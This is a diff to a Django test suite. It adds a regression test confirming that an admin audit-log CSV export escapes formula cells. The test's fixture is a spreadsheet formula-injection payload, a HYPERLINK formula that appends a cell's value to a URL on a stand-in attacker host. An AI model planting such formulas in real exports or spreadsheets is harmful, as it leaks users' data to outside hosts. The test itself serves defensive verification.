@@ -506,3 +506,22 @@ def test_ending_sessions_in_the_admin_needs_the_right_to_manage_their_person():
     assert not UserSession.objects.filter(pk=ann_row.pk).exists()
     assert ann_browser.get("/profile/")["Location"].startswith("/login/")
     assert AuditEvent.objects.filter(action="session.revoke", target_label__contains="ann@example.com").exists()
+
+
+# Finding 9: the audit export uses the CSV cell rule of every export (dockspace.csv_cells).
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.django_db
+def test_the_audit_export_uses_the_same_cell_rule():
+    AuditEvent.objects.create(action="test", description=FORMULA, target_label="@evil")
+    AuditEvent.objects.create(action="test", description="plain words", target_label="ann@example.com")
+    staff = StaffFactory(email="root@example.com")
+    browser = Client()
+    browser.post("/login/", {"email": staff.email, "password": PASSWORD})
+    response = browser.get("/admin/accounts/auditevent/export/?action__exact=test")
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode()
+    rows = list(csv.reader(text.splitlines()))
+    assert ["'" + FORMULA, "'@evil"] in [[row[7], row[6]] for row in rows]
+    assert ["plain words", "ann@example.com"] in [[row[7], row[6]] for row in rows]
